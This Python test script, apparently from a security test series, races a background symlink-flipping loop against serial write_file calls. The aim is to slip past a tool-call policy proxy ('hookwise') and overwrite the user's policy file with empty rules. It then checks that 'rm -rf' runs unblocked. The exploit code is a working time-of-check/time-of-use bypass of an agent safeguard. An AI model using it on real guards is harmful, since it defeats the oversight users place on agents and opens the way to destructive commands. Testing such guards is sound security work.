"""b05 without parallel calls: a background job flips proj/cfg between a harmless directory
and ~/.config (a link to it is allowed: b06); the write through proj/cfg is decided on where
the link points at decision time and run where it points a moment later. Calls one at a
time, each after the previous answer (as a host running tools serially does)."""
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from rt import HOOKWISE, Client, env_for, row, sandbox, text  # noqa: E402

SRV = [sys.executable, str(Path(__file__).parent / "srv.py")]
sb = sandbox("b07")
p, pol = sb["proj"], sb["policy"]
up = pol.parent.parent
c = Client(sb, SRV, name="fs")
row("control: write_file <policy>", c.call("write_file", {"path": str(pol), "content": "rules: []\n"}))
row("control: run_shell rm -rf v", c.call("run_shell", {"command": f"mkdir -p {p}/v; rm -rf {p}/v"}))
flip = (f"mkdir -p {p}/real/hookwise; cd {p}; (for i in $(seq 1 400000); do ln -sfn {up} cfg; "
        f"ln -sfn real cfg; done) >/dev/null 2>&1 & echo $! > {sb['base']}/flip.pid")
row("run_shell <background loop: ln -sfn ~/.config cfg; ln -sfn real cfg>", c.call("run_shell", {"command": flip}))
won = False
for attempt in range(1, 61):
    r = c.call("write_file", {"path": f"{p}/cfg/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"})
    if "rules: []" in pol.read_text():
        print(f"  attempt {attempt}: {text(r)[:90]}  -> USER POLICY OVERWRITTEN")
        won = True
        break
print(f"  policy now: {pol.read_text()!r}")
subprocess.run(["kill", (sb["base"] / "flip.pid").read_text().strip()], check=False)  # the loop
c.close()
if won:
    time.sleep(2.5)
    c = Client(sb, SRV, name="fs")
    row("new proxy: run_shell rm -rf v", c.call("run_shell", {"command": f"mkdir -p {p}/v; rm -rf {p}/v && echo deleted"}))
    c.close()
